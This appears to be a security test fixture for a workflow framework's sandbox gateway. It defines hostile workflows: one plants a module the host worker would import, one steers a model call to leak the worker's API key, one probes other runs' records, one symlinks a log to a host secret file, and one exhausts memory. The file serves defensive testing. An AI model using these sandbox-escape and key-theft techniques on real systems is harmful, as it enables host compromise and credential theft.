"""Workflows that attack their worker from inside a snapshot-road sandbox (issue #15), for
tests/security/test_gateway_attacks.py. Each does what hostile code in a sandbox would: talk
to the gateway socket directly, with requests the runner never sends."""

from __future__ import annotations

import os
import time
from typing import Any

import torpor
from torpor.gateway import GatewayClient
from torpor.gateway._ops import GetChild, Hello, StartChild

_NO_INPUT: dict[str, Any] = {"args": [], "kwargs": {}}


def _client() -> GatewayClient:
    return GatewayClient(os.environ["TORPOR_GATEWAY"])


def _my_run_id() -> str:
    return str(_client().call(Hello())["run"]["id"])


def _workspace_on_the_host() -> str:
    """The host directory mounted at /workspace, as this sandbox's mountinfo tells it."""
    with open("/proc/self/mountinfo") as mounts:
        for line in mounts:
            fields = line.split()
            if fields[4] == "/workspace":
                return fields[3]
    raise RuntimeError("no /workspace mount")


def _attempt(call: Any) -> str:
    try:
        return f"answered: {call()!r}"
    except Exception as exc:
        return f"refused: {type(exc).__name__}: {exc}"


@torpor.workflow(name="attack.replay_child")
def replay_child(marker: str) -> dict[str, str]:
    """Attack 1: a replay-road child whose source is a file this sandbox wrote, which the
    worker would import on the host."""
    with open("/workspace/evil.py", "w") as f:
        f.write(
            "import torpor\n"
            f"open({marker!r}, 'w').write('imported on the host')\n"
            "@torpor.workflow(name='attack.evil')\n"
            "def evil() -> int:\n"
            "    return 1\n"
        )
    host_file = _workspace_on_the_host() + "/evil.py"
    child = _my_run_id() + "-evil"
    outcome = _attempt(
        lambda: _client().call(
            StartChild(run_id=child, workflow="attack.evil", input=_NO_INPUT, road="replay",
                       queue="default", priority=0, source={"file": host_file})
        )
    )  # fmt: skip
    return {"child": child, "host_file": host_file, "outcome": outcome}


@torpor.workflow(name="attack.steal_key")
def steal_key(base_url: str) -> str:
    """Attack 2: a model call to an endpoint of the sandbox's choosing, which the worker
    would make with its own API key."""
    agent = torpor.Agent("openai:gpt-test", base_url=base_url, model_retries=0)
    try:
        return "answered: " + agent.run("hello")
    except Exception as exc:
        return f"refused: {type(exc).__name__}: {exc}"


@torpor.step()
def _hold(seconds: float) -> bool:
    """Wait in the sandbox (no gateway call open) until the test puts /workspace/go."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if os.path.exists("/workspace/go"):
            return True
        time.sleep(0.05)
    return False


@torpor.workflow(name="attack.other_runs")
def other_runs(stranger: str) -> dict[str, Any]:
    """Attacks 4 and 5: another run's record, and that run adopted as a child; then, after a
    suspend and a restore (a new sandbox init), a wait during which the test reaches the
    gateway socket from outside the sandbox."""
    torpor.sleep(4)  # longer than TORPOR_SUSPEND_AFTER: suspended, then restored
    tried = {
        "get_child": _attempt(lambda: _client().call(GetChild(run_id=stranger))),
        "start_child": _attempt(
            lambda: _client().call(
                StartChild(run_id=stranger, workflow="attack.other_runs", input=_NO_INPUT)
            )
        ),
        "own": _attempt(lambda: _client().call(GetChild(run_id=_my_run_id()))["id"]),
    }
    with open("/workspace/ready", "w") as f:
        f.write("ready")
    return {"tried": tried, "released": _hold(90)}


@torpor.workflow(name="attack.plant_link")
def plant_link(secret: str) -> str:
    """Attack 8: the worker reads /run/torpor/stderr.log when the sandbox dies; make it a
    link to a host file, then die."""
    os.remove("/run/torpor/stderr.log")
    os.symlink(secret, "/run/torpor/stderr.log")
    os._exit(3)


@torpor.workflow(name="attack.hog_memory")
def hog_memory(megabytes: int) -> int:
    """Exhaust the sandbox's memory: the worker's limit has the kernel kill it."""
    hoard = [bytearray(1 << 20) for _ in range(megabytes)]
    return len(hoard)
